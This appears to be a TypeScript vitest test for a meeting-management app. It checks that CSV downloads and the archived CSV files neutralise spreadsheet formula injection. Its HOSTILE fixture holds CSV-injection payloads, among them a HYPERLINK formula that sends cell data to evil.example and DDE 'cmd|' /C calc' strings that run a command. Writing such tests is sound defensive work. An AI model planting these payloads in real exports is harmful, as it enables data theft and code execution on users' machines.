import { unzipSync } from "fflate";
import { describe, expect, it } from "vitest";
import { CATALOGS } from "~/lib/i18n/messages";
import { makeTranslate } from "~/lib/i18n/translate";
import { download, DOWNLOADS } from "~/server/http/table-download";
import { approvedSession, callerFor, db } from "./fixtures";

/** What Excel, LibreOffice and Sheets take for the start of a formula (OWASP's CSV injection list). */
const FORMULA_START = /^[=+\-@\t\r]/;

/** RFC 4180 as Excel reads it: quoted cells may hold commas, quotes ("") and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  const endCell = () => {
    row.push(cell);
    cell = "";
  };
  for (let i = text.startsWith("\uFEFF") ? 1 : 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") endCell();
    else if (ch === "\r" && text[i + 1] === "\n") {
      endCell();
      rows.push(row);
      row = [];
      i++;
    } else cell += ch;
  }
  return rows;
}

// What a roster, a slate or a department's plan can carry, as an attacker with any of those pens would write it.
const HOSTILE = {
  name: `=HYPERLINK("http://evil.example/x?d="&C2,"查看")`,
  seat: "@SUM(1+1)",
  delegation: "-2+3+cmd|' /C calc'!A0",
  leadOfficial: "+cmd|' /C calc'!A0",
  title: "\t=1+1",
  unit: "\r=2+2",
  category: "=3+3",
};

describe("CSV exports cannot carry a formula into the clerk's spreadsheet", () => {
  it("every CSV download (and the session archive's CSV files) neutralises cells that begin with =, +, -, @, tab or CR (a leading apostrophe), and keeps the text", async () => {
    const f = await approvedSession(async (s) => {
      await db.delegate.update({ where: { id: s.delegates[0]!.id }, data: { name: HOSTILE.name, seat: HOSTILE.seat } });
      await db.delegation.updateMany({ where: { sessionId: s.session.id }, data: { name: HOSTILE.delegation } });
      await db.candidate.update({ where: { id: s.candidates[1]!.id }, data: { title: HOSTILE.title, category: HOSTILE.category } });
      await db.department.update({ where: { id: s.candidates[1]!.departmentId }, data: { name: HOSTILE.unit } });
    });
    await callerFor(f.actors.dept).projects.savePlan({
      candidateId: f.candidates[1]!.id,
      leadOfficial: HOSTILE.leadOfficial,
      budgetWan: "100",
      deadline: "2099-12-31",
      milestones: [],
    });
    const t = makeTranslate(CATALOGS["zh-CN"]);
    const ids: Record<string, string> = { attendance: f.session.id, results: f.pollId, progress: f.session.id };
    // Which hostile values each file must show (neutralised), so a file that lost them cannot pass by saying nothing.
    const expected: Record<string, string[]> = {
      attendance: [HOSTILE.name, HOSTILE.seat, HOSTILE.delegation],
      results: [HOSTILE.title, HOSTILE.unit],
      progress: [HOSTILE.title, HOSTILE.unit, HOSTILE.category, HOSTILE.leadOfficial],
    };
    const csvDownloads = Object.entries(DOWNLOADS).filter(([, spec]) => (spec.formats as readonly string[]).includes("csv"));
    expect(csvDownloads.map(([name]) => name).sort()).toEqual(Object.keys(expected).sort());
    for (const [name, spec] of csvDownloads) {
      const res = await download(spec, callerFor(f.actors.secretariat), ids[name]!, "csv", t, "zh-CN");
      expect(res.status, name).toBe(200);
      const cells = parseCsv(await res.text()).flat();
      expect(
        cells.filter((c) => FORMULA_START.test(c)),
        name,
      ).toEqual([]);
      for (const value of expected[name]!) expect(cells, `${name}: ${JSON.stringify(value)}`).toContain(`'${value}`);
    }

    // The session archive (会议档案) carries the attendance list and the progress report as CSV files too.
    const archive = await download(DOWNLOADS.archive, callerFor(f.actors.secretariat), f.session.id, null, t, "zh-CN");
    expect(archive.status).toBe(200);
    const files = unzipSync(new Uint8Array(await archive.arrayBuffer()));
    for (const [file, name] of [
      ["attendance.csv", "attendance"],
      ["progress-report.csv", "progress"],
    ] as const) {
      const cells = parseCsv(new TextDecoder().decode(files[file]!)).flat();
      expect(
        cells.filter((c) => FORMULA_START.test(c)),
        file,
      ).toEqual([]);
      for (const value of expected[name]!) expect(cells, `${file}: ${JSON.stringify(value)}`).toContain(`'${value}`);
    }
  });
});
